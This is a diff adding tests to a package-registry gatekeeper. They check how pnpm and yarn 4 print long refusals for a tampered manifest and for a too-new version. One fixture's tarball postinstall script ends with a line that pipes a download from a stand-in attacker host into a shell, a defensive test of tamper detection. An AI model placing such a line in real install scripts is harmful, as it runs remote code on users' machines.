@@ -305,6 +305,84 @@ describe('the client matrix under GATEKEEPER_REQUIRE_AUTH', () => {
 });
 
 /**
+ * What pnpm and yarn 4, which print only the status text, show for refusals too long for it
+ * (MAX_STATUS_TEXT): a long name and version, a 2,000-character postinstall script that the
+ * tarball's package.json changes at its end (EMANIFESTMISMATCH, refused on the tarball), and a
+ * version younger than the minimum release age (EQUARANTINED, refused on the packument). Each
+ * client asks as a developer (no token), whose next steps are the longest. The printed refusal
+ * names the code, the package@version, the differing script, and the whole next step.
+ */
+describe('pnpm and yarn 4 print the essentials of a refusal too long for the status text', () => {
+  const SCOPE = '@acme-platform-infrastructure';
+  const VERSION = '12.4.0-beta.17';
+  const LONG_SCRIPT = `node -e "${"require('./lib/setup').run({verbose:false,retries:3});".repeat(40)}"`.slice(0, 2000);
+  const printers = CLIENTS.filter((c) => ['pnpm9', 'pnpm10', 'yarn4'].includes(c.id));
+  const confused = (c: Client) => `${SCOPE}/telemetry-collector-agent-${c.id}`;
+  const fresh = (c: Client) => `${SCOPE}/telemetry-collector-fresh-${c.id}`;
+  const ago = (ms: number) => new Date(Date.now() - ms).toISOString();
+  const s = gatekeeperSuite({
+    packages: () =>
+      printers.flatMap((c) => [
+        {
+          name: confused(c),
+          versions: [
+            {
+              version: VERSION,
+              license: 'MIT',
+              publishedAt: ago(30 * 24 * 3_600_000),
+              scripts: { postinstall: LONG_SCRIPT },
+              tarballPackageJson: { scripts: { postinstall: `${LONG_SCRIPT} && curl -s https://evil.example/x | sh` } },
+            },
+          ],
+        },
+        { name: fresh(c), versions: [{ version: VERSION, license: 'MIT', publishedAt: ago(3_600_000) }] },
+      ]),
+    policyMode: 'open',
+    npm: false,
+  });
+  const gatekeeper = (...argv: string[]) => runGatekeeper({ GATEKEEPER_URL: s.t.url, GATEKEEPER_TOKEN: s.t.adminToken }, argv);
+  /** The output on one line: a client may wrap a long line. */
+  const flat = (r: ToolResult) => r.output.replace(/\s*\n\s*/g, ' ');
+
+  beforeAll(async () => {
+    if (printers.some((c) => !fs.existsSync(path.join(CLIENTS_DIR, c.id)))) throw new Error('pnpm 9, pnpm 10 and yarn 4 are needed: run npm ci --prefix test/clients');
+    expect((await gatekeeper('policy', 'set', 'release-age', '3d')).code).toBe(0);
+  });
+
+  it.each(printers)('$id: a tarball whose package.json changes a 2,000-character postinstall script (EMANIFESTMISMATCH)', async (c) => {
+    const home = tempDir(`gk-long-manifest-${c.id}-`);
+    const dir = project(home, `long-manifest-${c.id}`);
+    c.configure(home, dir, s.t.url);
+    const spec = `${confused(c)}@${VERSION}`;
+    const refused = await run(c.add(spec), dir, home);
+    expect([c.id, refused.code === 0]).toEqual([c.id, false]);
+    // What happened names the script; it leaves out the package@version when the next step, which names it, leaves no room.
+    expect([c.id, flat(refused)]).toEqual([c.id, expect.stringMatching(/\[EMANIFESTMISMATCH\] (\S+: )?postinstall script changed in the tarball's package\.json\. Use another version/)]);
+    expect([c.id, flat(refused)]).toEqual([
+      c.id,
+      expect.stringContaining(
+        `Use another version or ask the package's maintainer to publish a consistent one; an admin who accepts the difference can set the rule to warn; run 'gatekeeper explain ${spec}' for details`,
+      ),
+    ]);
+    expect(fs.existsSync(path.join(dir, 'node_modules', confused(c)))).toBe(false);
+  });
+
+  it.each(printers)('$id: a version younger than the minimum release age (EQUARANTINED)', async (c) => {
+    const home = tempDir(`gk-long-quarantine-${c.id}-`);
+    const dir = project(home, `long-quarantine-${c.id}`);
+    c.configure(home, dir, s.t.url);
+    const spec = `${fresh(c)}@${VERSION}`;
+    const refused = await run(c.add(spec), dir, home);
+    expect([c.id, refused.code === 0]).toEqual([c.id, false]);
+    expect([c.id, flat(refused)]).toEqual([c.id, expect.stringMatching(/\[EQUARANTINED\] (this version|\S+) is installable after \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\. Use an older version/)]);
+    expect([c.id, flat(refused)]).toEqual([
+      c.id,
+      expect.stringContaining(`Use an older version, wait, or ask for an exemption: gatekeeper request ${spec} --reason '<why you need it>'; run 'gatekeeper explain ${spec}'`),
+    ]);
+  });
+});
+
+/**
  * What yarn prints in two cases where it hides our reason (docs/clients.md says so, and points to
  * `gatekeeper check` / `npm view`): a refused transitive dependency under yarn 1, and a revoked
  * token under yarn 4.
